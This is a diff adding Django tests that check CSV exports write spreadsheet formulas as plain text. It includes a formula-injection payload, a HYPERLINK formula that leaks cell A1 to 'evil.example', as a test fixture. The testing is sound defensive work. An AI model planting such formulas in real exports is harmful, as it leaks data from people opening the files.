@@ -128,3 +128,40 @@ def test_rows_are_batched(published_data, monkeypatch):
         make_need(county="360321", title=f"分批{i}")
     rows = list(DATASETS["needs"].rows())
     assert len(rows) == 5 and max(calls) == 2 and len(calls) >= 3
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+
+
+def test_a_formula_in_a_title_is_written_as_text_in_every_csv(client):
+    ProjectFactory(title=FORMULA)
+    make_need(county="360321", title="@SUM(1+1)")
+
+    projects = {row["title"] for row in _csv(client, "projects")}
+    needs = {row["title"] for row in _csv(client, "needs")}
+
+    assert "'" + FORMULA in projects and FORMULA not in projects
+    assert "'@SUM(1+1)" in needs
+
+
+def test_numbers_stay_numbers_in_csv():
+    from matching.csv_cells import csv_safe
+    from matching.opendata.streaming import csv_lines
+
+    lines = list(csv_lines(("a", "b", "c"), [{"a": -300, "b": "-300", "c": "\tx"}]))
+    assert lines[1] == "-300,'-300,'\tx\r\n"
+    assert [csv_safe(v) for v in ("+1", "\rx", "ok", 5)] == ["'+1", "'\rx", "ok", 5]
+
+
+def test_admin_csv_exports_write_formulas_as_text(client):
+    from tests.factories import UserFactory
+
+    make_need(county="360321", title=FORMULA)
+    client.force_login(UserFactory(username="csv_root", is_superuser=True, is_staff=True))
+
+    response = client.get("/admin/reports/aging-pages/?export=csv")
+
+    body = b"".join(response.streaming_content).decode("utf-8") if response.streaming else response.content.decode()
+    assert response.status_code == 200
+    assert "'" + FORMULA.replace('"', '""') in body
+    assert "," + FORMULA.replace('"', '""') not in body and '"' + FORMULA.replace('"', '""') not in body
